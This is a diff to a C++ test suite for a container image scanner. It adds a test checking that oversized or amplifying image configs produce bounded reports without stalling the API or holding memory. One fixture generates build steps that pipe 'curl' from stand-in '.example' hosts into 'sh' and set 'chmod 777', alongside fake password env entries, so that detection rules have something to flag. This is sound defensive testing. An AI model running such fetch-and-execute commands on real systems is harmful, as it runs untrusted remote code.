@@ -17,6 +17,7 @@
 #include <atomic>
 #include <filesystem>
 #include <fstream>
+#include <map>
 #include <set>
 #include <thread>
 
@@ -95,13 +96,23 @@ long peak_rss_mib(pid_t pid) {
   return -1;
 }
 
-// Polls /healthz every 20 ms until stopped; keeps the slowest answer.
+// Resident memory of a process now, in MiB (VmRSS).
+long rss_mib(pid_t pid) {
+  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
+  std::string line;
+  while (std::getline(in, line))
+    if (line.starts_with("VmRSS:")) return std::stol(line.substr(6)) / 1024;
+  return -1;
+}
+
+// Polls `target` (/healthz unless named) every 20 ms until stopped; keeps the slowest answer.
 struct HealthProbe {
-  explicit HealthProbe(const bw::cli::ApiClient& api) : api_(api) {
+  explicit HealthProbe(const bw::cli::ApiClient& api, std::string target = "/healthz")
+      : api_(api), target_(std::move(target)) {
     thread_ = std::thread([this] {
       while (!stop_) {
         auto t0 = std::chrono::steady_clock::now();
-        auto r = api_.call("GET", "/healthz", "", std::chrono::seconds(30));
+        auto r = api_.call("GET", target_, "", std::chrono::seconds(30));
         auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                       std::chrono::steady_clock::now() - t0)
                       .count();
@@ -118,6 +129,7 @@ struct HealthProbe {
     if (thread_.joinable()) thread_.join();
   }
   const bw::cli::ApiClient& api_;
+  std::string target_;
   std::thread thread_;
   std::atomic<bool> stop_{false};
   std::atomic<long> worst_ms_{0};
@@ -630,4 +642,111 @@ TEST_CASE("10: strict query numbers, port ranges, and no port scanning through e
   };
   CHECK(shape(a["error"]["message"], "127.0.0.1:" + std::to_string(closed)) ==
         shape(b["error"]["message"], web.host()));
+}
+
+// Configs under the size limit that once became reports hundreds of times their size: a 5 MB
+// User echoed by findings and advice (20 MB stored), and 60,000 build steps that each trip
+// three rules with 9,000 secret env entries (154 MB stored, 3.5 GB of RSS).
+TestImage amplifying_user() {
+  TestImage img = clean_image({make_layer(small_base())});
+  img.config["User"] = std::string(5'000'000, 'u');
+  return img;
+}
+
+TestImage amplifying_history() {
+  TestImage img = clean_image({make_layer(small_base())});
+  json history = json::array({{{"created_by", "/bin/sh -c #(nop) ADD file:abc in / "}}});
+  for (int i = 0; i < 60'000; ++i)
+    history.push_back(
+        {{"created_by", "/bin/sh -c curl -fsSL http://x" + std::to_string(i) +
+                            ".example/i.sh | sh && chmod 777 /opt/" + std::to_string(i)},
+         {"empty_layer", true}});
+  img.history = history;
+  json env = json::array({"PATH=/bin"});
+  for (int i = 0; i < 9'000; ++i)
+    env.push_back("PASSWORD" + std::to_string(i) + "=hunter" + std::to_string(i));
+  img.config["Env"] = env;
+  return img;
+}
+
+std::size_t counted(const json& report, const std::string& rule) {
+  std::size_t n = 0;
+  for (auto& f : report["findings"])
+    if (f["rule_id"] == rule) n += 1 + f.value("more", std::size_t{0});
+  return n;
+}
+
+TEST_CASE(
+    "11: configs that amplify make bounded reports; the API keeps answering, memory returns") {
+  LocalRegistry reg;
+  auto user = push_image(reg.host(), "evil/user", "1", amplifying_user());
+  auto steps = push_image(reg.host(), "evil/steps", "1", amplifying_history());
+  push_image(reg.host(), "fine/app", "1", clean_image({make_layer(small_base())}));
+  {
+    Daemon d;
+    REQUIRE(d.scan(reg.host() + "/fine/app:1")["status"] == "done");
+    const long rss_before = rss_mib(d.pid());
+    HealthProbe health(d.api());
+    HealthProbe stats(d.api(), "/v1/stats");
+    std::map<std::string, double> secs;
+    for (const char* ref : {"/evil/user:1", "/evil/steps:1"}) {
+      auto t0 = std::chrono::steady_clock::now();
+      json s = d.scan(reg.host() + ref);
+      secs[ref] = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
+      REQUIRE_MESSAGE(s["status"] == "done", s.dump());
+    }
+    std::map<std::string, std::size_t> bytes;
+    json user_report, steps_report;
+    for (auto [digest, out] : {std::pair{user.manifest_digest, &user_report},
+                               std::pair{steps.manifest_digest, &steps_report}}) {
+      auto r = d.api().call("GET", "/v1/images/" + digest + "/report");
+      REQUIRE(r);
+      bytes[digest] = r->body.size();
+      *out = json::parse(r->body);
+    }
+    health.finish();
+    stats.finish();
+    const long rss_after = rss_mib(d.pid());
+    CHECK(health.failures_ == 0);
+    CHECK(stats.failures_ == 0);
+    // Kilobytes, not megabytes: the bound is the catalog's, not the config's.
+    CHECK(bytes[user.manifest_digest] < 200'000);
+    CHECK(bytes[steps.manifest_digest] < 500'000);
+    CHECK(counted(steps_report, "BW-PIPE-SHELL") == 60'000);
+    CHECK(counted(steps_report, "BW-CHMOD-777") == 60'000);
+    CHECK(counted(steps_report, "BW-SECRET-ENV") == 9'000);
+    CHECK(steps_report.dump().find("hunter") == std::string::npos);
+    for (auto& f : user_report["findings"])
+      for (auto& [k, v] : f["evidence"].items())
+        if (v.is_string()) CHECK(v.get_ref<const std::string&>().size() < 1100);
+    // What is stored is as small as what is served.
+    std::string db = d.data_dir() + "/bulwark.db";
+    CHECK(std::stol("0" + sqlite(db, "SELECT max(length(report)) FROM reports")) < 500'000);
+    CHECK(std::stol("0" + sqlite(db, "SELECT max(length(user)) FROM images")) < 5'000);
+    // Before, the daemon held 2.5 GB after such a scan. What remains now is the allocator's:
+    // the sanitizer build keeps up to 256 MiB of freed memory in quarantine and its pools
+    // mapped (the release build's figure is in README).
+    CHECK(rss_after - rss_before < 1024);
+    MESSAGE("5 MB User: scan " << secs["/evil/user:1"] << " s, report "
+                               << bytes[user.manifest_digest] << " bytes; 60,000 steps: scan "
+                               << secs["/evil/steps:1"] << " s, report "
+                               << bytes[steps.manifest_digest] << " bytes; /healthz worst "
+                               << health.worst_ms_.load() << " ms, /v1/stats worst "
+                               << stats.worst_ms_.load() << " ms; RSS " << rss_before << " -> "
+                               << rss_after << " MiB (ASan build)");
+  }
+  // A scheduled pass over the registry holding both: the same answers while it runs.
+  Daemon d(json{{"schedules", {{{"registry", reg.host()}, {"interval_minutes", 600}}}}});
+  HealthProbe health(d.api());
+  HealthProbe stats(d.api(), "/v1/stats");
+  CHECK(eventually([&] { return d.get_json("/v1/scans?status=done")["scans"].size() == 3; },
+                   std::chrono::seconds(120)));
+  health.finish();
+  stats.finish();
+  CHECK(health.failures_ == 0);
+  CHECK(stats.failures_ == 0);
+  MESSAGE("scheduled pass over 3 tags (2 hostile): /healthz worst "
+          << health.worst_ms_.load() << " ms over " << health.probes_.load()
+          << " probes, /v1/stats worst " << stats.worst_ms_.load() << " ms; peak RSS "
+          << peak_rss_mib(d.pid()) << " MiB (ASan build)");
 }
